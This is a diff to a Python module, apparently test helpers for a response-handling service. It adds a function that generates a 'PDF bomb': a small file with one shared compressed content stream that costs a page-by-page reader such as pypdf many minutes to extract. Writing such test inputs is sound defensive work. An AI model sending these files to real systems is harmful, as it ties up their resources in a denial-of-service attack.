@@ -105,3 +105,27 @@ def answer(r: httpx.Response) -> tuple[str, list[str], int]:
     body = r.json()
     texts = [p["text"] for item in body["output"] if item["type"] == "message" for p in item["content"]]
     return "".join(texts), [item["type"] for item in body["output"]], body["usage"]["input_tokens"]
+
+
+def pdf_bomb(pages: int = 500, stream_bytes: int = 1024 * 1024) -> bytes:
+    """A hostile PDF, small on the wire and costly to read: one large Flate-compressed content
+    stream of text operators, shared by every page, so a reader that extracts page by page
+    decompresses and interprets it once per page (pypdf: 1-2 s a page here, so 10-20 minutes)."""
+    writer = PdfWriter()
+    font = DictionaryObject({
+        NameObject("/Type"): NameObject("/Font"),
+        NameObject("/Subtype"): NameObject("/Type1"),
+        NameObject("/BaseFont"): NameObject("/Helvetica"),
+    })
+    resources = DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})})
+    op = b"BT /F1 1 Tf 0 0 Td () Tj ET\n"  # shows nothing: no text cap ends the read early
+    stream = StreamObject()
+    stream.set_data(b"BT /F1 12 Tf 0 0 Td (Bomb) Tj ET\n" + op * (stream_bytes // len(op)))
+    contents = writer._add_object(stream.flate_encode())
+    for _ in range(pages):
+        page = writer.add_blank_page(10, 10)
+        page[NameObject("/Resources")] = resources
+        page[NameObject("/Contents")] = contents
+    buf = io.BytesIO()
+    writer.write(buf)
+    return buf.getvalue()
